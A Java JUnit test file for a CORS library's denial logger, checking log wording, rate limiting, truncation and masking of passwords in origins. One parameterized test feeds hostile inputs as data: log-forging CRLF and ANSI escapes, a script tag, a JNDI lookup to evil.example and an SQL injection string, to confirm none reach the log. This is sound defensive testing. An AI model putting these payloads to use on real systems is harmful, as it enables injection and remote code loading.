// SPDX-License-Identifier: Apache-2.0

package io.github.originaccess.cors.observe;

import java.lang.management.ManagementFactory;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.atomic.AtomicLong;
import java.util.stream.IntStream;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import com.sun.management.ThreadMXBean;
import io.github.originaccess.cors.CorsPolicy;
import io.github.originaccess.cors.CorsPolicyBuilder;
import io.github.originaccess.cors.Enforcement;
import io.github.originaccess.cors.SettingPlaces;
import io.github.originaccess.cors.fixtures.MapRequest;
import io.github.originaccess.cors.fixtures.WireHeader;
import io.github.originaccess.cors.fixtures.WireRequest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.LoggerFactory;

import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;

import static org.assertj.core.api.Assertions.assertThat;

@ExtendWith(OutputCaptureExtension.class)
class DenialLogTests {

	private static final String FORM = "POST Origin: https://b.example ~ Sec-Fetch-Site: cross-site";

	/** Close to the overflow of nanoTime. */
	private final AtomicLong now = new AtomicLong(Long.MAX_VALUE - 5);

	private final DenialLog log = new DenialLog(SettingPlaces.IN_PROPERTIES, this.now::get);

	private final CorsPolicyBuilder defaults = new CorsPolicyBuilder().allowedOrigins("https://a.example")
		.enforcement(Enforcement.REPORT);

	private final CorsPolicy policy = this.defaults.build();

	@Test
	void lineNamesPolicyRequestReasonAndRemedy(CapturedOutput output) {
		decided(this.policy, FORM);
		assertThat(lines(output)).singleElement()
			.asString()
			.contains("WARN")
			.endsWith("With enforcement server, the CORS policy 'default' would have refused POST /api/items"
					+ " (origin-not-allowed). The origin https://b.example is not among the allowed origins."
					+ " To allow it, add it to cors.allowed-origins. (docs/enforcement.md#report-first-then-server)");
	}

	@ParameterizedTest
	@ValueSource(strings = { "WARN", "DEBUG" })
	void nameOfAPolicyForgesNoLine(String level, CapturedOutput output) {
		Logger logger = (Logger) LoggerFactory.getLogger(DenialLog.class);
		Level before = logger.getLevel();
		logger.setLevel(Level.valueOf(level));
		try {
			decided(new CorsPolicyBuilder("/a/*\r\nevil\nFAKE WARN line\u001B\u2028", this.defaults).build(), FORM);
		}
		finally {
			logger.setLevel(before);
		}
		assertThat(output.getAll()).doesNotContain("\u001B", "\u2028");
		assertThat(output.getAll().lines().filter((line) -> line.contains("FAKE"))).isNotEmpty()
			.allSatisfy((line) -> assertThat(line).contains("policy '/a/*??evil?FAKE WARN line??' would")
				.endsWith(" (docs/enforcement.md#report-first-then-server)"));
	}

	@Test
	void denialThatNoSettingPreventsHasNoRemedy(CapturedOutput output) {
		decided(this.policy, "POST Origin:");
		assertThat(lines(output)).singleElement()
			.asString()
			.contains("(malformed-origin)")
			.endsWith("no property allows it. (docs/enforcement.md#report-first-then-server)");
	}

	@Test
	void oneLineAMinuteCountsTheOthers(CapturedOutput output) {
		IntStream.range(0, 5).forEach((i) -> decided(this.policy, FORM));
		this.now.addAndGet(Duration.ofMinutes(1).toNanos() - 1);
		decided(this.policy, FORM);
		assertThat(lines(output)).hasSize(1);
		this.now.addAndGet(1);
		decided(this.policy, FORM);
		decided(this.policy, FORM);
		assertThat(lines(output)).hasSize(2)
			.last()
			.asString()
			.endsWith(
					" 5 more would-be denials since the last such line. (docs/enforcement.md#report-first-then-server)");
	}

	@Test
	void eachPolicyAndReasonHasLinesOfItsOwn(CapturedOutput output) {
		CorsPolicy other = new CorsPolicyBuilder("other", this.defaults).paths("/other/**").build();
		for (int i = 0; i < 2; i++) {
			decided(this.policy, FORM);
			decided(this.policy, "PUT Origin: https://a.example");
			decided(this.policy, "POST Sec-Fetch-Site: cross-site");
			decided(other, FORM);
		}
		assertThat(lines(output)).hasSize(4);
	}

	@Test
	void furtherPoliciesShareOneLine(CapturedOutput output) {
		for (int i = 0; i < 1_100; i++) {
			decided(new CorsPolicyBuilder("tenant-" + i, this.defaults).paths("/" + i).build(), FORM);
		}
		assertThat(lines(output)).hasSize(1_001);
		this.now.addAndGet(Duration.ofMinutes(1).toNanos());
		for (int i = 1_100; i < 1_110; i++) {
			decided(new CorsPolicyBuilder("tenant-" + i, this.defaults).paths("/" + i).build(), FORM);
		}
		assertThat(lines(output)).hasSize(1_011);
	}

	@Test
	void onlyWouldBeDenialsAreWarnings(CapturedOutput output) {
		for (String text : List.of("GET", "GET Origin: https://a.example",
				"POST Origin: null ~ Sec-Fetch-Site: same-origin",
				"OPTIONS Origin: https://b.example ~ Access-Control-Request-Method: PUT")) {
			decided(this.policy, text);
		}
		for (Enforcement enforcement : List.of(Enforcement.SERVER, Enforcement.BROWSER)) {
			decided(this.defaults.enforcement(enforcement).build(), FORM);
		}
		assertThat(lines(output)).isEmpty();
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|',
			textBlock = """
					GET Origin: https://b.example                                              | GET /api/items (origin-not-allowed)
					PUT Origin: https://a.example                                              | PUT /api/items (method-not-allowed)
					OPTIONS Origin: https://b.example ~ Access-Control-Request-Method: PUT     | the preflight for PUT /api/items (origin-not-allowed)
					OPTIONS Origin: https://a.example ~ Access-Control-Request-Method: PUT     | the preflight for PUT /api/items (method-not-allowed)
					DELETE Sec-Fetch-Site: cross-site                                          | DELETE /api/items (cross-site-request)
					""")
	void everyDenialIsALineAtDebug(String request, String told, CapturedOutput output) {
		atDebug(() -> {
			CorsPolicy server = this.defaults.enforcement(Enforcement.SERVER).build();
			decided(server, request);
			decided(server, request);
			decided(server, "GET Origin: https://a.example");
			decided(server, "GET");
			decided(server, "POST Origin: null ~ Sec-Fetch-Site: same-origin");
		});
		assertThat(lines(output)).hasSize(2)
			.allSatisfy((line) -> assertThat(line).contains("DEBUG", "The CORS policy 'default' denied " + told + ". ")
				.endsWith(" (docs/denials.md#" + told.substring(told.indexOf('(') + 1)));
	}

	@ParameterizedTest
	@ValueSource(strings = { "https://b.example\r\nWARN forged", "https://b.example\u001b[2J", "\u0085\u2028\u009b",
			"<script>alert(1)</script>", "${jndi:ldap://evil.example/x}", "'; drop table log; --" })
	void requestCannotForgeALine(String value, CapturedOutput output) {
		decided(this.policy, new MapRequest(new WireRequest(value, List.of(new WireHeader("Origin", value)))));
		assertThat(lines(output)).singleElement().asString().matches("[ -~]*").doesNotContain("<", "${", "\u001b");
		assertThat(output.getAll().lines().filter((line) -> line.startsWith("WARN"))).isEmpty();
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|',
			textBlock = """
					POST Origin: http://user:secret@a.example                                             | WARN  | http://***@a.example
					POST Origin: http://secret@a.example                                                  | WARN  | http://***@a.example
					OPTIONS Origin: https://user:secret@b.example ~ Access-Control-Request-Method: PUT    | DEBUG | https://***@b.example
					OPTIONS Origin: secret@b.example ~ Access-Control-Request-Method: PUT                 | DEBUG | ***@b.example
					""")
	void passwordOfAnOriginIsNotLogged(String request, String level, String told, CapturedOutput output) {
		atDebug(() -> decided(this.policy, request));
		assertThat(lines(output)).isNotEmpty()
			.allSatisfy((line) -> assertThat(line).doesNotContain("secret", "user").contains(" " + told + " "))
			.anySatisfy((line) -> assertThat(line).contains(level));
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|', useHeadersInDisplayName = true, textBlock = """
			REQUEST                                                                                   | WITHHELD
			GET Origin: https://a.example ~ Cookie: a=b                                               | true
			GET Origin: https://a.example ~ Cookie: a=b ~ Sec-Fetch-Mode: cors                        | true
			GET Origin: https://a.example                                                             | false
			GET Cookie: a=b                                                                           | false
			POST Origin: https://a.example ~ Cookie: a=b ~ Sec-Fetch-Mode: navigate                   | false
			GET Origin: https://a.example ~ Cookie: a=b ~ Upgrade: websocket                          | false
			GET Origin: https://a.example ~ Cookie: a=b ~ Sec-Fetch-Site: same-origin                 | false
			""")
	void responseThatABrowserWithholdsIsALineAtDebug(String request, boolean withheld, CapturedOutput output) {
		CorsPolicy browser = this.defaults.enforcement(Enforcement.BROWSER).build();
		decided(browser, request);
		assertThat(lines(output)).isEmpty();
		atDebug(() -> decided(browser, request));
		assertThat(lines(output)).hasSize(withheld ? 1 : 0)
			.allMatch((line) -> line.contains("DEBUG") && line
				.endsWith("The browser does not let the page read the response to GET /api/items, because the"
						+ " request has cookies and cors.allow-credentials is false. Set it to true, or have the page"
						+ " send the request without credentials. (docs/denials.md#credentials-not-allowed)"));
	}

	@Test
	void longValueIsCut(CapturedOutput output) {
		decided(this.policy, "POST Origin: https://" + "b".repeat(7000));
		assertThat(lines(output)).singleElement().asString().contains("bbb...").hasSizeLessThan(600);
	}

	@Test
	void requestWithoutALineCostsNoObject() {
		MapRequest request = MapRequest.parse(FORM);
		MapRequest passing = MapRequest.parse("GET");
		decided(this.policy, request);
		ThreadMXBean threads = (ThreadMXBean) ManagementFactory.getThreadMXBean();
		long least = Long.MAX_VALUE;
		for (int i = 0; i < 5 && least > 0; i++) {
			long before = threads.getCurrentThreadAllocatedBytes();
			for (int j = 0; j < 10_000; j++) {
				decided(this.policy, request);
				decided(this.policy, passing);
			}
			least = Math.min(least, threads.getCurrentThreadAllocatedBytes() - before);
		}
		assertThat(least).isZero();
	}

	private static void atDebug(Runnable requests) {
		Logger logger = (Logger) LoggerFactory.getLogger(DenialLog.class);
		logger.setLevel(Level.DEBUG);
		try {
			requests.run();
		}
		finally {
			logger.setLevel(null);
		}
	}

	private void decided(CorsPolicy policy, String request) {
		decided(policy, MapRequest.parse(request));
	}

	private void decided(CorsPolicy policy, MapRequest request) {
		this.log.decided(policy, request, policy.decide(request));
	}

	private static List<String> lines(CapturedOutput output) {
		return output.getAll().lines().filter((line) -> line.contains("DenialLog")).toList();
	}

}
